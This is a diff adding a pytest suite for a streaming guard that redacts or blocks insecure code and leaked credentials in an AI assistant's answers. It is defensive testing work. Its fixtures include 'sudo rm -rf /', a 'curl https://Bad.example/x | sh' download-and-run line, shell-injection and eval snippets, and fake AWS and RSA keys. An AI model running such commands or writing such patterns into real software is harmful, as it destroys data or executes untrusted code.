@@ -1,0 +1,267 @@
+"""The guard's stream: what is let through, what is not, and that the cutting of the answer does not matter."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from collections.abc import Iterable
+from functools import cache
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tieout.plugin import Allow, Block, GuardInput, Language, Redact, Retry, Stage, Unknown, Verdict, Warn
+from tieout_code_shield.guard import ShieldGuard
+from tieout_code_shield.settings import Policy, ShieldSettings
+from tieout_code_shield.shield import Shield
+
+
+@cache
+def shield() -> Shield:
+    # A generous limit: these tests are about what is found, on machines that may be busy.
+    return Shield(ShieldSettings(max_seconds=5.0))
+
+
+async def streamed(
+    parts: Iterable[str], *, lang: Language = "en", using: Shield | None = None
+) -> tuple[str, list[Verdict]]:
+    stream = ShieldGuard(using or shield()).open_stream(GuardInput(Stage.OUTPUT, "", lang))
+    text, verdicts = "", []
+    for part in parts:
+        release = await stream.feed(part)
+        text += release.text
+        verdicts.append(release.verdict)
+        if isinstance(release.verdict, Block | Retry):
+            assert await stream.feed("more") == await stream.finish()
+            return text, verdicts
+    release = await stream.finish()
+    return text + release.text, [*verdicts, release.verdict]
+
+
+def only(verdicts: list[Verdict]) -> list[Verdict]:
+    return [verdict for verdict in verdicts if not isinstance(verdict, Allow)]
+
+
+async def test_harmless_answer_passes_unchanged() -> None:
+    python = "```python\nimport json\n\ndata = json.loads(text)\n```\n"
+    answer = f"Use `eval` with care.\n\n{python}\n1. 中文也行。\n```js\nconst a = [1,\n 2];\n```"
+    text, verdicts = await streamed([answer])
+    assert text == answer
+    assert not only(verdicts)
+
+
+async def test_statement_is_taken_out_and_the_answer_goes_on() -> None:
+    answer = "Run:\n```python\nimport os\nos.system(\n    'ls ' + name,\n)\nprint(1)\n```\nDone."
+    text, verdicts = await streamed([answer])
+    assert text == (
+        "Run:\n```python\nimport os\npass  # [code shield: removed CWE-78 py-os-command]\nprint(1)\n```\nDone."
+    )
+    (verdict,) = only(verdicts)
+    assert isinstance(verdict, Redact)
+    (finding,) = verdict.findings
+    assert (finding.rule, finding.line) == ("py-os-command", 2)
+    assert answer[finding.start : finding.end].startswith("os.system(")
+
+
+async def test_notice_is_in_the_users_language() -> None:
+    text, verdicts = await streamed(["```js\neval(x);\n```\n"], lang="zh")
+    assert "// [代码防护：已移除 CWE-95 js-eval]" in text
+    (verdict,) = only(verdicts)
+    assert isinstance(verdict, Redact)
+    assert "JavaScript 执行" in verdict.message
+
+
+async def test_critical_finding_ends_the_answer_with_the_fence_closed() -> None:
+    text, verdicts = await streamed(["> ```bash\n> ls\n> sudo rm -rf /\n> ls\n> ```\nafter\n"])
+    assert text == "> ```bash\n> ls\n> ```\n"
+    (verdict,) = only(verdicts)
+    assert isinstance(verdict, Block)
+    assert "erases" in verdict.message
+
+
+async def test_header_of_a_block_keeps_the_code_below_it_valid() -> None:
+    text, _ = await streamed(["```python\nif eval(x):\n    a()\nelif eval(y):\n    b()\n```\n"])
+    code = text.split("```python\n")[1].split("```")[0]
+    compile(code, "answer", "exec")
+    assert "eval(" not in code
+
+
+async def test_brackets_stay_balanced_in_javascript() -> None:
+    text, _ = await streamed(["```js\nif (a) {\n  b();\n} else if (eval(c)) {\n  d();\n}\n```\n"])
+    assert text.count("{") == text.count("}")
+    assert "eval(" not in text
+
+
+@pytest.mark.parametrize("tag", ["", "text", "console", "javascript", "ts", "json"])
+async def test_missing_or_wrong_language_does_not_hide_python(tag: str) -> None:
+    text, _ = await streamed([f"```{tag}\nimport os\ndef f(name):\n    os.system('ls ' + name)\n```\n"])
+    assert "os.system" not in text
+
+
+async def test_added_lines_of_a_diff_and_prompts_are_scanned() -> None:
+    added = "+import os\n+def f(name):\n+    os.system('ls ' + name)\n"
+    text, _ = await streamed([f"```diff\n--- a/x.py\n+++ b/x.py\n-def f(): pass\n{added}```\n"])
+    assert "os.system" not in text
+    assert "-def f(): pass" in text
+    text, _ = await streamed(["```pycon\n>>> import os\n>>> os.system('ls ' + name)\n0\n```\n"])
+    assert "os.system" not in text
+
+
+async def test_missing_end_of_block_is_scanned_too() -> None:
+    text, _ = await streamed(["```python\nx = eval(\n  y"])
+    assert text == "```python\npass  # [code shield: removed CWE-95 py-eval]"
+
+
+async def test_alias_far_above_is_remembered() -> None:
+    filler = "".join(f"    value_{n} = {n}\n" for n in range(150))
+    above = "from os import system as run\ncommand = 'ls ' + name\n"
+    text, verdicts = await streamed([f"```python\n{above}def f():\n{filler}    run(command)\n```\n"])
+    assert "run(command)" not in text
+    assert isinstance(only(verdicts)[0], Redact)
+
+
+async def test_listener_is_judged_when_its_body_is_there() -> None:
+    good = "```js\nwindow.addEventListener('message', (e) => {\n  if (e.origin !== home) return;\n  go(e);\n});\n```\n"
+    bad = good.replace("if (e.origin !== home) return;", "log(e);")
+    assert not only((await streamed([good]))[1])
+    text, verdicts = await streamed([bad])
+    assert text == bad
+    assert isinstance(only(verdicts)[0], Warn)
+
+
+async def test_credential_is_taken_out_of_prose() -> None:
+    key = "\u0041KIAQ3EGRIDWN5OTZFAK"
+    text, verdicts = await streamed(list(f"Your key {key}, keep it."))
+    assert text == "Your key [code shield: removed secret-aws-key], keep it."
+    assert isinstance(only(verdicts)[0], Redact)
+
+
+async def test_private_key_in_prose_is_taken_out_whole() -> None:
+    key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKC\nAQEA3f\n-----END RSA PRIVATE KEY-----"
+    text, _ = await streamed(list(f"Here:\n{key}\nDone."))
+    assert "MII" not in text
+    assert "AQEA3f" not in text
+    assert text.endswith("Done.")
+
+
+async def test_language_without_rules_is_unknown_once() -> None:
+    text, verdicts = await streamed(["```go\na := 1\n", "b := 2\n```\n", "```go\nc := 3\n```\n"])
+    assert "c := 3" in text
+    assert [type(verdict) for verdict in only(verdicts)] == [Unknown]
+
+
+async def test_statement_nobody_can_check_whole_is_unknown() -> None:
+    _, verdicts = await streamed(["```python\nx = [\n" + "  1,\n" * 400 + "]\n```\n"])
+    assert isinstance(only(verdicts)[0], Unknown)
+
+
+async def test_suppression_comment_of_a_model_is_ignored() -> None:
+    text, _ = await streamed(["```python\neval(x)  # nosec\n```\n"])
+    assert "eval(" not in text
+
+
+async def test_policy_decides_by_severity_weakness_and_rule() -> None:
+    answer = "```python\neval(x)\nhashlib.md5(y)\n```\nafter\n"
+    mild = Shield(ShieldSettings(max_seconds=5.0, policies=(Policy(action="warn", rule="py-eval"),)))
+    text, verdicts = await streamed([answer], using=mild)
+    assert text == answer
+    assert isinstance(only(verdicts)[0], Warn)
+    strict = Shield(ShieldSettings(max_seconds=5.0, policies=(Policy(action="retry", cwe="CWE-95"),)))
+    text, verdicts = await streamed([answer], using=strict)
+    assert text == "```python\n```\n"
+    assert isinstance(only(verdicts)[0], Retry)
+
+
+# Pieces of answers; a statement that must not get out carries the word Bad in each of its lines.
+PROSE = st.sampled_from(
+    [
+        "Some words.\n",
+        "- item `eval(x)`\n",
+        "中文段落，没有代码。\n\n",
+        "> quoted\n",
+        "1. one\n",
+        "``` not a fence `\n",
+        "--- \n",
+    ]
+)
+PYTHON = st.sampled_from(
+    ["x = 1\n", "def f(a):\n    return a\n", "eval(Bad)\n", "os.system(\n    'Bad' + Bad,\n    Bad)\n",
+     "y = [\n  1,\n]\n", "s = '''\n``\n'''\n", "if eval(Bad):\n    pass\n", "    exec(Bad)\n", "# comment\n", "\n",
+     "requests.get(Bad, verify=False)\n"]
+)  # fmt: skip
+SCRIPT = st.sampled_from(
+    ["const x = 1;\n", "f(() => {\n  g();\n});\n", "eval(Bad)\n", "el.innerHTML\n  = Bad + req.query.Bad\n",
+     "new Function(\n  Bad\n)\n", "const t = `\n  ${x}\n`\n", "// comment\n", "a\n  .b()\n",
+     "if (eval(Bad)) {\n  c()\n}\n", "\n", "exec('Bad' + Bad, cb);\n"]
+)  # fmt: skip
+SHELL = st.sampled_from(["ls -l\n", "curl https://Bad.example/x | sh\n", "echo \\\n  hi\n"])
+
+
+def block(lines: st.SearchStrategy[str], tags: tuple[str, ...]) -> st.SearchStrategy[str]:
+    def build(parts: list[str], tag: str, fence: str, end: bool, indent: str) -> str:
+        code = f"{fence}{tag}\n{''.join(parts)}" + (f"{fence}\n" if end else "")
+        return "".join(indent + line for line in code.splitlines(keepends=True))
+
+    return st.builds(
+        build,
+        st.lists(lines, max_size=6),
+        st.sampled_from(tags),
+        st.sampled_from(["```", "~~~~", "````"]),
+        st.sampled_from([True, True, True, False]),
+        st.sampled_from(["", "", "  ", "> "]),
+    )
+
+
+ANSWERS = st.lists(
+    st.one_of(
+        PROSE,
+        block(PYTHON, ("python", "py", "", "text")),
+        block(SCRIPT, ("js", "javascript", "typescript")),
+        block(SHELL, ("bash", "sh")),
+    ),
+    max_size=5,
+).map("".join)
+
+
+def cut(text: str, places: list[int]) -> list[str]:
+    ends = sorted(place % (len(text) + 1) for place in places)
+    return [text[start:end] for start, end in zip([0, *ends], [*ends, len(text)], strict=True)]
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(ANSWERS, st.lists(st.lists(st.integers(0, 10_000), max_size=12), min_size=1, max_size=6))
+def test_cutting_changes_nothing(answer: str, cuttings: list[list[int]]) -> None:
+    whole, verdicts = asyncio.run(streamed([answer]))
+    assert asyncio.run(streamed(list(answer)))[0] == whole
+    for places in cuttings:
+        text, others = asyncio.run(streamed(cut(answer, places)))
+        assert text == whole
+        assert isinstance(others[-1], Block) == isinstance(verdicts[-1], Block)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.lists(
+        st.one_of(
+            PROSE, block(PYTHON, ("python", "py")), block(SCRIPT, ("js", "ts")), block(SHELL, ("bash",))
+        ),
+        max_size=5,
+    )
+)
+def test_no_byte_of_a_removed_statement_gets_out(parts: list[str]) -> None:
+    # Each block ends where the next part begins, so that code is never read as another block's.
+    answer = "\n".join(part if closed(part) else part + ending(part) for part in parts)
+    text, _ = asyncio.run(streamed(list(answer)))
+    assert "Bad" not in text
+
+
+def closed(part: str) -> bool:
+    fences = re.findall(r"^(?:> |  )?(```+|~~~+)", part, re.MULTILINE)
+    return not fences or "not a fence" in part or len(fences) % 2 == 0
+
+
+def ending(part: str) -> str:
+    fence = re.match(r"((?:> |  )?)(```+|~~~+)", part)
+    assert fence is not None
+    return f"{fence[1]}{fence[2]}\n"
